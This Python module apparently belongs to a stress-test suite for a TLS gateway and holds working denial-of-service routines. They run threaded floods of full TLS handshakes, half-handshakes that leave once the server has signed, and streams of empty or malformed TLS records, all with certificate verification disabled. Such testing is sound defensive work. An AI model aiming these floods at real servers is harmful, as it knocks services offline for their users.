"""Attacks on TLS: of those who shake hands and do nothing else."""

import itertools
import ssl
import threading

from wire import Flood, clock, connect


def unverified():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def hello():
    """A ClientHello, which costs its sender nothing and the gateway a key exchange and a signature."""
    outgoing = ssl.MemoryBIO()
    one = unverified().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="a")
    try:
        one.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def at_once(count, seconds, attempt):
    """Does something again and again, `count` at a time. Returns how often it was done, and how often it failed."""
    end, done = clock() + seconds, [[0, 0] for _ in range(count)]

    def go(figures):
        while clock() < end:
            try:
                attempt()
                figures[0] += 1
            except OSError:
                figures[1] += 1

    threads = [threading.Thread(target=go, args=(each,), daemon=True) for each in done]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + 10)
    return sum(each[0] for each in done), sum(each[1] for each in done)


def whole_handshakes(gateway, count, seconds):
    """Of TLS 1.3 and of 1.2, none of which is resumed."""
    contexts = [unverified(), unverified()]
    contexts[1].maximum_version = ssl.TLSVersion.TLSv1_2
    turns = itertools.cycle(contexts)

    def attempt():
        with next(turns).wrap_socket(connect(gateway.tls_port), server_hostname="a"):
            pass

    made, failed = at_once(count, seconds, attempt)
    return f"TLS handshakes, and nothing else: {made:,}, {failed:,} of which failed"


def half_handshakes(gateway, count, seconds):
    """Each is left when the gateway has done its part."""
    first = hello()

    def attempt():
        with connect(gateway.tls_port) as one:
            one.sendall(first)
            one.recv(1)

    made, failed = at_once(count, seconds, attempt)
    return f"TLS handshakes that are left when the gateway has signed: {made:,}, {failed:,} of which failed"


def tls_records(gateway, count, seconds):
    """Records without anything in them, and what is no TLS, behind a ClientHello."""
    kinds = itertools.cycle([b"\x16\x03\x03\0\0", b"\x17\x03\x03\0\0", b"\x15\x03\x03\0\x02\x01\0", b"\x14\x03\x03\0\x01\x01"])
    first = hello()

    def script():
        return itertools.chain([first], itertools.repeat(next(kinds) * 1_000))

    return f"TLS records of nothing: {Flood(gateway.tls_port, script, count, seconds).run()}"
